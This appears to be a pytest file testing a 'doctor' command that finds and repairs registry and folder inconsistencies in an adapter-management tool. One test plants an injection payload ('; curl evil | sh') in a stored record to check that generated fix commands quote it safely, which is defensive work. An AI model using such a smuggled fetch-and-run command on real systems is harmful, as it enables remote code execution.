"""registry.json against the folders, and what dead processes left: each is found, and its fix works."""

from __future__ import annotations

import json
import os
import re
import shlex
import shutil
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path

import msgspec
import pytest

from tests.conftest import Result
from tests.sound import add_sound, local_base
from zoo.cli.doctor import examine
from zoo.registry.schema import SCHEMA, HubId
from zoo.registry.store import Registry
from zoo.runtime.checks import FAILED, WARNING, CheckResult

Zoo = Callable[..., Result]


@pytest.fixture
def home(registry: Registry, tiny_bert: Path) -> Registry:
    """A registry with one adapter, in which nothing is wrong."""
    add_sound(registry, local_base(tiny_bert))
    return registry


def found(registry: Registry) -> list[CheckResult]:
    return examine(registry, fast=True).results


def the(registry: Registry) -> CheckResult:
    results = found(registry)
    assert len(results) == 1, results
    return results[0]


def fix(zoo: Zoo, result: CheckResult) -> str:
    """Type what it says, as a shell takes it, and return the stderr of it."""
    detail = ""
    for part in result.fix.split(" && "):
        command, _, into = part.partition(" > ")
        words = shlex.split(command)
        if words[0] == "zoo":
            done = zoo(*words[1:])
            assert done.code == 0, done.err
            detail += done.err
            if into:
                Path(shlex.split(into)[0]).write_text(done.out, encoding="utf-8")
        else:
            subprocess.run(words, check=True)
    return detail


def test_nothing_is_wrong_with_a_sound_registry_or_with_none(home: Registry, tmp_path: Path) -> None:
    assert found(home) == []
    assert found(Registry(tmp_path / "other" / "registry.json")) == []
    assert not (tmp_path / "other").exists()


@pytest.mark.parametrize(
    ("content", "detail"),
    [
        (b"{", "is damaged"),
        (
            b'{"schema": 1, "adapters": {"mine": {"base": 1, "name": 3, "spec": 2}}}',
            "the record of 'mine' is damaged",
        ),
        (b'{\n<<<<<<< ours\n"schema": 1\n=======\n>>>>>>> theirs\n', "holds git conflict markers"),
    ],
)
def test_a_registry_that_cannot_be_read_is_rebuilt_and_its_adapters_are_looked_at_meanwhile(
    home: Registry, zoo: Zoo, content: bytes, detail: str
) -> None:
    before = home.path.read_bytes()
    home.path.write_bytes(content)
    (home.adapter_folder("mine") / "adapter_model.safetensors").unlink()
    registry, adapter = found(home)
    assert registry.status == FAILED
    assert detail in registry.detail
    assert "adapter_model.safetensors is gone" in adapter.detail
    fix(zoo, registry)
    assert home.path.read_bytes() == before


def test_a_newer_registry_asks_for_a_newer_zoo(home: Registry) -> None:
    home.path.write_bytes(msgspec.json.encode({"schema": SCHEMA + 1, "adapters": []}))
    assert "has schema" in the(home).detail
    assert the(home).fix == "pip install --upgrade adapter-zoo"


def test_a_record_without_its_folder_is_trained_again_by_its_fix(home: Registry) -> None:
    shutil.rmtree(home.adapter_folder("mine"))
    result = the(home)
    assert result.status == FAILED
    assert "its folder is gone" in result.detail
    assert result.fix.startswith("zoo train lora bert-imdb ")
    assert result.fix.endswith("--name mine-2")


def test_what_was_published_is_pulled_again_rather_than_trained(home: Registry) -> None:
    hub = HubId(repo="me/mine", revision="ab" * 20, url="u")
    home.replace(msgspec.structs.replace(home.get("mine"), hub=hub))
    shutil.rmtree(home.adapter_folder("mine"))
    assert the(home).fix == f"zoo pull me/mine@{'ab' * 20} --name mine --replace"


def test_a_command_that_a_record_tells_is_never_what_is_to_be_typed(home: Registry) -> None:
    evil = "zoo train lora bert-imdb; curl evil | sh"
    spec = msgspec.structs.replace(home.get("mine").spec, data="x; curl evil | sh")
    home.replace(msgspec.structs.replace(home.get("mine"), command=evil, spec=spec))
    shutil.rmtree(home.adapter_folder("mine"))
    assert "--data 'x; curl evil | sh'" in the(home).fix
    assert ";" not in shlex.quote("").join(re.split(r"'[^']*'", the(home).fix))


def test_a_folder_that_the_registry_does_not_have_is_entered_by_its_fix(home: Registry, zoo: Zoo) -> None:
    before = home.path.read_bytes()
    home.path.write_bytes(b'{"adapters": {}, "schema": 1}')
    result = the(home)
    assert result.status == FAILED
    assert result.name == str(home.adapter_folder("mine"))
    fix(zoo, result)
    assert home.path.read_bytes() == before


def test_a_lost_record_file_is_written_again_by_its_fix(home: Registry, zoo: Zoo) -> None:
    path = home.adapter_folder("mine") / "zoo.json"
    before = path.read_bytes()
    for content in (None, b"{"):
        path.unlink() if content is None else path.write_bytes(content)
        result = the(home)
        assert result.status == FAILED
        assert "zoo.json" in result.detail
        fix(zoo, result)
        assert path.read_bytes() == before
        assert found(home) == []


def test_a_record_file_that_differs_is_named_with_the_fields_and_believed(home: Registry, zoo: Zoo) -> None:
    path = home.adapter_folder("mine") / "zoo.json"
    path.write_bytes(path.read_bytes().replace(b'"negative"', b'"bad"'))
    assert the(home).detail == "zoo.json and registry.json differ in labels"
    fix(zoo, the(home))
    assert home.get("mine").labels == ["bad", "positive"]
    assert found(home) == []


def test_a_renamed_folder_gets_its_name_back(home: Registry, zoo: Zoo) -> None:
    home.adapter_folder("mine").rename(home.adapter_folder("yours"))
    gone, renamed = found(home)
    assert "gone" in gone.detail
    assert renamed.detail == "its zoo.json says it is 'mine'"
    fix(zoo, renamed)
    assert found(home) == []


def test_a_folder_that_is_no_adapter_of_the_zoo_is_imported_or_removed(home: Registry) -> None:
    folder = home.adapter_folder("stray")
    folder.mkdir()
    assert (the(home).status, the(home).fix) == (WARNING, f"rmdir {folder}")
    (folder / "mine.txt").write_text("not to be lost", encoding="utf-8")
    assert the(home).fix == f"mv {folder} {home.path.parent}"
    (folder / "adapter_config.json").write_text("{}", encoding="utf-8")
    assert the(home).fix.startswith(f"zoo import {folder}")


def test_an_unfinished_run_is_resumed_by_its_fix(
    home: Registry, zoo: Zoo, tiny_bert: Path, reviews_csv: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    words = ["train", "lora", "bert-imdb", "--base", tiny_bert, "--data", reviews_csv, "--name", "run"]

    def stop(*_: object) -> None:
        raise RuntimeError("cut off")

    with monkeypatch.context() as patched:
        patched.setattr("zoo.training.pipeline._save", stop)  # after the checkpoint of the last step
        done = zoo(*words, "-s", "r=4", "--limit", 8, "--eval-limit", 8, "--registry", home.path)
        assert "cut off" in done.err
    result = the(home)
    assert result.status == WARNING
    assert re.search(r"a training of 'run' that stopped at step (\d+) of \1, .*: cut off", result.detail)
    assert fix(zoo, result).count("resuming from checkpoint-") == 1
    assert home.get("run").spec.params["r"] == 4
    assert found(home) == []


def test_a_run_that_died_before_its_first_checkpoint_is_begun_again(
    home: Registry, zoo: Zoo, tiny_bert: Path, reviews_csv: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from zoo.training import runs

    words = ["train", "lora", "bert-imdb", "--base", tiny_bert, "--data", reviews_csv, "--name", "run"]
    words += ["--limit", 8, "--eval-limit", 8, "--registry", home.path]

    def die(*_: object) -> None:
        raise RuntimeError("killed")

    with monkeypatch.context() as patched:
        patched.setattr("zoo.training.pipeline._load", die)
        patched.setattr(runs.Opened, "close", lambda opened: opened._lock.release())  # as the system does
        patched.setattr(runs.Opened, "failed", lambda *_, **__: None)
        assert "killed" in zoo(*words).err
    assert "that stopped at step 0 of ?" in the(home).detail
    fix(zoo, the(home))
    assert home.get("run").spec.limit == 8
    assert found(home) == []


def test_what_a_killed_process_was_making_or_removing_is_found_and_what_a_living_one_makes_is_not(
    home: Registry, cache: Path
) -> None:
    dead = subprocess.run(
        [sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True
    )
    for pid, number in ((dead.stdout.strip(), 4), (os.getpid(), 0)):
        temporary = [
            home.path.with_name(f"registry.json.{pid}.tmp"),
            home.adapter_folder("mine") / f"zoo.json.{pid}.tmp",
            cache / "index" / f"a.{pid}.tmp",
        ]
        for path in temporary:
            path.parent.mkdir(exist_ok=True, parents=True)
            path.write_bytes(b"")
        removed = home.work_folder(f"removed-x-{pid}")
        removed.mkdir(parents=True)
        results = found(home)
        assert len(results) == number, results
        for result in results:
            subprocess.run(shlex.split(result.fix), check=True)
        shutil.rmtree(removed, ignore_errors=True)
        for path in temporary:
            path.unlink(missing_ok=True)


def test_what_lies_half_made_is_left_alone_while_somebody_may_be_at_work_on_it(home: Registry) -> None:
    folder = home.work_folder("fetched")
    folder.mkdir(parents=True)
    assert found(home) == []
    os.utime(folder, (time.time() - 7200,) * 2)
    assert the(home).detail == "half made and left, last written 2 hours ago"


@pytest.mark.skipif(os.name == "nt", reason="flock")
def test_a_held_lock_is_reported_and_a_free_one_is_nothing(home: Registry) -> None:
    assert home.path.with_name("registry.json.lock").exists()
    with home._writing():
        assert "another process is writing" in the(home).detail
    assert found(home) == []


def test_a_thousand_adapters_take_a_moment(registry: Registry, tiny_bert: Path) -> None:
    add_sound(registry, local_base(tiny_bert))
    folder, content = registry.adapter_folder("mine"), json.loads(registry.path.read_bytes())
    for number in range(1000):
        name = f"mine-{number}"
        shutil.copytree(folder, registry.adapter_folder(name))
        record = {**content["adapters"]["mine"], "name": name}
        content["adapters"][name] = record
        (registry.adapter_folder(name) / "zoo.json").write_text(json.dumps(record), encoding="utf-8")
    registry.path.write_text(json.dumps(content), encoding="utf-8")
    start = time.monotonic()
    assert found(registry) == []
    assert time.monotonic() - start < 5
